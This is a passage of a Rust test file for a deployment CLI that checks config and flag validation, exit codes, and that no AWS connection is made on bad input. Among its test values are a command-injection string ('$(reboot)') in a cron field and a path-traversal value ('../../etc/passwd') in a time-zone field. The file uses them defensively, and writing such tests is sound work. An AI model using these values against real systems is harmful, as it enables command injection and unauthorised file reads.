            "services.www.schedule.0.recurrence",
            "the minute field \"$(reboot)\" is not valid",
        ),
        Case::config(
            "recurrence with a day of week 8",
            replace(PROD, r#"recurrence = "0 7 * * MON-FRI""#, r#"recurrence = "0 7 * * 1-8""#),
            "services.www.schedule.0.recurrence",
            "the day of week field \"1-8\" is not valid",
        ),
        Case::config(
            "time_zone with a space",
            replace(PROD, r#"time_zone = "America/New_York""#, r#"time_zone = "America/New York""#),
            "services.www.schedule.0.time_zone",
            "is not a time zone",
        ),
        Case::config(
            "time_zone as a path",
            replace(PROD, r#"time_zone = "America/New_York""#, r#"time_zone = "../../etc/passwd""#),
            "services.www.schedule.0.time_zone",
            "is not a time zone",
        ),
        Case::config(
            "schedule name with a space",
            replace(PROD, r#"name = "business-hours""#, r#"name = "business hours""#),
            "services.www.schedule.0.name",
            "is not a schedule name",
        ),
        Case::config(
            "schedule min above its desired",
            replace(PROD, "min = 4\ndesired = 6", "min = 7\ndesired = 6"),
            "services.www.schedule.0.desired",
            "min 7 is above desired 6",
        )
        .at(&["[[services.www.schedule]]", "desired ="]),
        Case::config(
            "schedule min over 500",
            replace(PROD, "min = 4\ndesired = 6", "min = 501\ndesired = 6"),
            "services.www.schedule.0.min",
            "is out of range: a whole number from 0 to 500 is allowed",
        ),
        Case::config(
            "schedule without a size",
            replace(PROD, "min = 4\ndesired = 6\n", ""),
            "services.www.schedule.0.name",
            "a schedule sets at least one of min, max and desired",
        )
        .at(&["[[services.www.schedule]]", "name ="]),
        Case::config(
            "unknown key in a schedule",
            replace(PROD, r#"recurrence = "0 7 * * MON-FRI""#, r#"cron = "0 7 * * MON-FRI""#),
            "services.www.schedule.0.cron",
            "unknown field `cron`",
        ),
        Case::config(
            "two schedules of one name",
            replace(
                PROD,
                "[services.www.lifecycle]",
                "[[services.www.schedule]]\nname = \"business-hours\"\nrecurrence = \"0 19 * * *\"\ndesired = 4\n\n[services.www.lifecycle]",
            ),
            "services.www.schedule.1.name",
            "is declared twice",
        )
        .at(&["[[services.www.schedule]]", "[[services.www.schedule]]", "name ="]),
        Case::config(
            "drain under AWS's 30 s",
            replace(PROD, r#"drain = "2m""#, r#"drain = "10s""#),
            "services.www.lifecycle.drain",
            "is out of range: a duration from 30s to 2h is allowed",
        ),
        Case::config(
            "drain over AWS's 7200 s",
            replace(PROD, r#"drain = "2m""#, r#"drain = "3h""#),
            "services.www.lifecycle.drain",
            "is out of range: a duration from 30s to 2h is allowed",
        ),
        Case::config(
            "launch_default neither CONTINUE nor ABANDON",
            replace(PROD, r#"drain = "2m""#, "drain = \"2m\"\nlaunch_timeout = \"5m\"\nlaunch_default = \"MAYBE\""),
            "services.www.lifecycle.launch_default",
            "is not a lifecycle hook result: CONTINUE or ABANDON is allowed",
        )
        .at(&["launch_default ="]),
        Case::config(
            "launch_default without launch_timeout",
            replace(PROD, r#"drain = "2m""#, "drain = \"2m\"\nlaunch_default = \"ABANDON\""),
            "services.www.lifecycle.launch_default",
            "is set without launch_timeout",
        )
        .at(&["launch_default ="]),
        Case::config(
            "launch_timeout not shorter than health_timeout",
            replace(PROD, r#"drain = "2m""#, "drain = \"2m\"\nlaunch_timeout = \"20m\""),
            "services.www.lifecycle.launch_timeout",
            "is not shorter than health_timeout 15m",
        )
        .at(&["launch_timeout ="]),
        Case::config(
            "unknown key in lifecycle",
            replace(PROD, r#"drain = "2m""#, "drain = \"2m\"\nterminate_timeout = \"1m\""),
            "services.www.lifecycle.terminate_timeout",
            "unknown field `terminate_timeout`",
        )
        .at(&["terminate_timeout ="]),
        Case::config(
            "healthcheck interval over an hour",
            replace(WWW, r#"interval = "15s""#, r#"interval = "99999999999999d""#),
            "healthcheck.interval",
            "is out of range",
        ),
        Case::config(
            "max beyond what a classic ELB can register for two releases",
            replace(STAGING, "max = 4", "max = 501"),
            "services.www.max",
            "is out of range: a whole number from 1 to 500 is allowed",
        ),
        // ---- issue 12 (6): templates are rendered and flags parsed before any AWS call ----
        Case::flag(
            "init template that does not render, deploy --dry-run",
            &["deploy", "www", "--env", "staging", "--image-tag", "1.0.0", "--dry-run"],
            "upstart/www.conf.hbs",
            "run_flag",
        )
        .with(replace("upstart/www.conf.hbs", "{{run_flags}}", "{{run_flag}}")),
        Case::flag(
            "init template that does not render, promote",
            &["promote", "www", "--from", "staging", "--to", "prod", "--dry-run"],
            "upstart/www.conf.hbs",
            "run_flag",
        )
        .with(replace("upstart/www.conf.hbs", "{{run_flags}}", "{{run_flag}}")),
        Case::flag(
            "init template that does not render, rollback",
            &["rollback", "www", "--env", "staging"],
            "upstart/www.conf.hbs",
            "run_flag",
        )
        .with(replace("upstart/www.conf.hbs", "{{run_flags}}", "{{run_flag}}")),
        Case::flag(
            "nginx template that does not render, routes --dry-run",
            &["routes", "--env", "prod", "--dry-run"],
            "nginx/frontdoor.conf.hbs",
            "listn",
        )
        .with(replace("nginx/frontdoor.conf.hbs", "listen {{listen}};", "listen {{listn}};")),
        Case::flag("--endpoint-url without a host", DEPLOY, "--endpoint-url", "is not a valid endpoint (empty host)")
            .args(&["--endpoint-url", "http://", "deploy", "www", "--env", "staging", "--image-tag", "1.0.0"]),
        Case::flag("--endpoint-url with half an IPv6 address", DEPLOY, "--endpoint-url", "invalid IPv6 address")
            .args(&["--endpoint-url", "http://[::1", "deploy", "www", "--env", "staging", "--image-tag", "1.0.0"]),
        Case::flag("--endpoint-url with port 99999", DEPLOY, "--endpoint-url", "invalid port number").args(&[
            "--endpoint-url",
            "http://localhost:99999",
            "deploy",
            "www",
            "--env",
            "staging",
            "--image-tag",
            "1.0.0",
            "--dry-run",
        ]),
        Case::flag("--endpoint-url with port 99999, bake", BAKE, "--endpoint-url", "invalid port number").args(&[
            "--endpoint-url",
            "http://localhost:99999",
            "bake",
            "www",
            "--env",
            "staging",
            "--image-tag",
            "1.0.0",
        ]),
        // ---- issue 12 (7): secrets in env names and values ----
        Case::config(
            "credentials-looking env var name",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"DB_CREDENTIALS = "admin""#),
            "env.DB_CREDENTIALS",
            "secrets belong in SSM Parameter Store or Secrets Manager, referenced from [services.<name>.secrets]",
        ),
        Case::config(
            "PWD env var name",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"MYSQL_PWD = "x""#),
            "env.MYSQL_PWD",
            "looks like a secret",
        ),
        Case::config(
            "env value with a password in a URL",
            replace(WWW, r#"LOG_FORMAT = "json""#, r#"DATABASE_URL = "postgres://admin:pw@db/www""#),
            "env.DATABASE_URL",
            "holds a password in a URL (user:password@): it would be baked into the AMI or its user data; secrets belong in SSM Parameter Store or Secrets Manager",
        ),
        Case::config(
            "environment setting with a password in a URL",
            replace(STAGING, r#"FEATURE_NEW_PLAYER = "on""#, r#"DATABASE_URL = "postgres://admin:pw@db/www""#),
            "services.www.env.DATABASE_URL",
            "holds a password in a URL",
        ),
        Case::config(
            "environment setting named like credentials",
            replace(STAGING, r#"FEATURE_NEW_PLAYER = "on""#, r#"DB_CREDENTIALS = "admin""#),
            "services.www.env.DB_CREDENTIALS",
            "secrets belong in SSM Parameter Store or Secrets Manager, referenced from [services.<name>.secrets]",
        ),
        Case::config(
            "a count that does not fit a TOML integer",
            replace(STAGING, "max = 4", "max = 99999999999999999999999"),
            "services.www.max",
            "",
        ),
    ]
}

/// Stderr split into reports: a report starts at a line that begins with `drydock ` or
/// with a tree folder (each config error is one), and takes the lines that follow.
fn reports(stderr: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for line in stderr.lines() {
        let starts = line.starts_with("drydock ")
            || line.starts_with("error:")
            || TREE_PREFIXES.iter().any(|p| line.starts_with(p));
        match out.last_mut() {
            Some(last) if !starts => {
                last.push('\n');
                last.push_str(line);
            }
            _ => out.push(line.to_owned()),
        }
    }
    out
}

/// Runs one case; Err holds every way it went wrong.
fn run_case(case: &Case) -> Result<(), String> {
    let tree = ExampleTree::new();
    let edit = match &case.mutation {
        Mutation::None => None,
        Mutation::Replace { file, old, new } => Some(tree.replace(file, old, new)?),
        Mutation::Copy { from, to } => {
            tree.copy_file(from, to)?;
            None
        }
        Mutation::Write { file, text } => {
            tree.write(file, text);
            None
        }
        Mutation::Remove(paths) => {
            for p in *paths {
                tree.remove(p)?;
            }
            None
        }
    };

    let listener = RecordingListener::start();
    let mut cmd = drydock_recorded(&listener);
    cmd.arg("-C").arg(tree.path()).args(&case.args);
    let r = run(&mut cmd, RUN_TIMEOUT);
    let connections = listener.settle();

    let mut problems = Vec::new();
    if r.timed_out {
        problems.push(format!("did not finish within {RUN_TIMEOUT:?}"));
    }
    if r.code != Some(2) {
        problems.push(format!("exit code {:?}, expected 2", r.code));
    }
    if connections != 0 {
        problems.push(format!("made {connections} connection(s) to the stand-in for AWS, expected none"));
    }
    if r.stderr.contains("not built yet") {
        problems.push("stderr says \"not built yet\": the bad input was not caught".into());
    }
    if !r.stdout.is_empty() {
        problems.push(format!("stdout is not empty: {:?}", r.stdout));
    }

    match &case.expect {
        Expect::Config { file, at, key, rule } => {
            let file = file.or(case.mutation.file()).expect("a config case names its file");
            let line = match at {
                At::NoLine => None,
                At::Replacement => {
                    Some(edit.as_ref().map(|e| e.line).expect("At::Replacement needs a Replace mutation"))
                }
                At::Needles(needles) => Some(
                    line_of(&tree.read(file), needles)
                        .ok_or_else(|| format!("the mutated {file} does not contain {needles:?}"))?,
                ),
            };
            let mut prefix = file.to_owned();
            if let Some(l) = line {
                write!(prefix, ":{l}").expect("write to String");
            }
            prefix.push_str(": ");
            if !key.is_empty() {
                write!(prefix, "{key}: ").expect("write to String");
            }
            let found = reports(&r.stderr).iter().any(|rep| rep.find(&prefix).is_some_and(|i| rep[i..].contains(rule)));
            if !found {
                problems.push(format!("stderr has no report starting {prefix:?} that states {rule:?}"));
            }
        }
        Expect::Flag { flag, rule } => {
            let found = r.stderr.lines().any(|l| l.contains(flag) && l.contains(rule));
            if !found {
                problems.push(format!("stderr has no line naming {flag:?} that states {rule:?}"));
            }
        }
    }

    if problems.is_empty() {
        Ok(())
    } else {
        Err(format!(
            "{}\n    drydock {}\n    stderr: {}",
            problems.join("\n    "),
            case.args.join(" "),
            r.stderr.trim_end().replace('\n', "\n            ")
        ))
    }
}

#[test]
fn bad_input_exits_2_names_the_problem_and_makes_no_aws_request() {
    let cases = cases();
    assert!(cases.len() >= 35, "only {} cases", cases.len());
    let mut names = std::collections::BTreeSet::new();
    for c in &cases {
        assert!(names.insert(c.name), "two cases are named {:?}", c.name);
    }

    // Independent cases (each its own tree and listener): run them a few at a time.
    let results: Vec<(usize, Result<(), String>)> = std::thread::scope(|s| {
        let workers = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(2).clamp(1, 8);
        let chunks: Vec<Vec<(usize, &Case)>> =
            (0..workers).map(|w| cases.iter().enumerate().filter(|(i, _)| i % workers == w).collect()).collect();
        let handles: Vec<_> = chunks
            .into_iter()
            .map(|chunk| s.spawn(move || chunk.into_iter().map(|(i, c)| (i, run_case(c))).collect::<Vec<_>>()))
            .collect();
        let mut all: Vec<_> = handles.into_iter().flat_map(|h| h.join().expect("a case thread panicked")).collect();
        all.sort_by_key(|(i, _)| *i);
        all
    });

    let mut failures = Vec::new();
    for (i, result) in results {
        if let Err(e) = result {
            failures.push(format!("FAIL {}: {e}", cases[i].name));
        }
    }
    eprintln!("{} of {} bad-input cases pass", cases.len() - failures.len(), cases.len());
    assert!(
        failures.is_empty(),
        "{} of {} bad-input cases failed:\n\n{}\n",
        failures.len(),
        cases.len(),
        failures.join("\n\n")
    );
}

/// The zero-connection assertions above can fail: the listener counts a real connection.
#[test]
fn recording_listener_counts_connections() {
    let listener = RecordingListener::start();
    assert_eq!(listener.settle(), 0);
    let s = std::net::TcpStream::connect(("127.0.0.1", listener.port())).expect("connect");
    assert_eq!(listener.settle(), 1);
    drop(s);
    let _again = std::net::TcpStream::connect(("127.0.0.1", listener.port())).expect("connect");
    assert_eq!(listener.settle(), 2);
}

/// The intact example tree is valid, so that every error above comes from its mutation;
/// the commands used run offline and make no connection.
#[test]
fn the_example_tree_is_valid() {
    let tree = ExampleTree::new();
    for args in [&["check", "--no-nginx"][..], &["render", "init", "www", "--image-tag", "1.0.0"][..]] {
        let listener = RecordingListener::start();
        let mut cmd = drydock_recorded(&listener);
        cmd.arg("-C").arg(tree.path()).args(args);
        let r = run(&mut cmd, RUN_TIMEOUT);
        assert_eq!(r.code, Some(0), "drydock {}: stderr: {}", args.join(" "), r.stderr);
        assert_eq!(listener.settle(), 0, "drydock {}", args.join(" "));
    }
}

/// End to end: with the same environment, a valid bake's first AWS request does reach the
/// listener, so a bad input's zero count means "stopped before AWS", not "talked to AWS
/// elsewhere". The bake is killed as soon as the first connection is counted.
#[test]
fn a_valid_bake_reaches_the_listener() {
    let tree = ExampleTree::new();
    let listener = RecordingListener::start();
    let mut cmd = drydock_recorded(&listener);
    cmd.arg("-C").arg(tree.path()).args(BAKE).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    let mut child = cmd.spawn().expect("spawn drydock bake");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let mut exited = None;
    while listener.connections() == 0 && std::time::Instant::now() < deadline {
        if let Some(status) = child.try_wait().expect("wait for drydock bake") {
            exited = Some(status);
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    if exited.is_none() {
        let _ = child.kill();
    }
    child.wait().expect("reap drydock bake");
    let seen = listener.settle();
    assert!(
        seen >= 1,
        "drydock bake on the intact example tree made no connection to AWS_ENDPOINT_URL \
         (exited: {exited:?})"
    );
}
